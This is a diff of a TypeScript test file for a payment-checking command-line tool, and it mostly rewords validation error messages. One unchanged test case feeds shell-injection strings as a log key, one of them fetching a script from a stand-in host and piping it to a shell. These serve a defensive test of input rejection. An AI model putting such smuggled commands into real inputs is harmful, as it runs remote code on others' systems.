@@ -272,7 +272,7 @@ describe("a seller's URL", () => {
   });
 
   test("is not covered where an entry of its answer was not read: wallets may read and pay it", async () => {
-    const skipped = [{ position: 1, reason: "amount expected a whole number as text" }];
+    const skipped = [{ position: 1, reason: "amount must be a whole number as text" }];
     server().answer(json(200, { ...seller, skipped }));
     expect((await run("https://s.example/", "--at-stake", "1")).code).toBe(1);
   });
@@ -315,7 +315,7 @@ test.each(["l+1+A';curl${IFS}evil.example|sh;'", "l+1+$(id)", "+1+AAAA"])(
     server().answer(json(200, check), (response) => void response.end(key));
     const { code, stdout, stderr } = await run(account, "--audit");
     expect([code, stdout]).toEqual([2, ""]);
-    expect(stderr).toContain("/log/key expected the key of a log, got something else");
+    expect(stderr).toContain("/log/key must be the key of a log (received something else)");
   },
 );
 
@@ -323,20 +323,26 @@ const mistakes: readonly Mistake[] = [
   ["check", "an account, the id of an agent or an https URL expected; see --help"],
   ["check a b", 'unexpected argument "b"; see --help'],
   ["check a --stake 1", "there is no option --stake; see --help"],
-  ["check a --at-stake 1e3", '--at-stake expected an amount in USD, such as "0.25", got "1e3"'],
+  [
+    "check a --at-stake 1e3",
+    '--at-stake must be an amount in USD, such as "0.25" (received "1e3")',
+  ],
   [
     "check a --network x",
-    '--network expected a chain, such as eip155:8453, base or devnet, got "x"',
+    '--network must be a chain, such as eip155:8453, base or devnet (received "x")',
   ],
   [
     "check https://s.example/ --network base",
     "--network is of an account: the answer of a URL names the networks of its own; see --help",
   ],
-  ["check a --wait 601", '--wait expected a whole number from 0 to 600, got "601"'],
-  ["check a --server x", '--server expected a URL that begins with https:// or http://, got "x"'],
+  ["check a --wait 601", '--wait must be a whole number from 0 to 600 (received "601")'],
+  [
+    "check a --server x",
+    '--server must be a URL that begins with https:// or http:// (received "x")',
+  ],
   [
     "check a",
-    'ARCS_API_URL expected a URL that begins with https:// or http://, got "x"',
+    'ARCS_API_URL must be a URL that begins with https:// or http:// (received "x")',
     { ARCS_API_URL: "x" },
   ],
   ["chek a", "unknown command chek a; did you mean check?"],
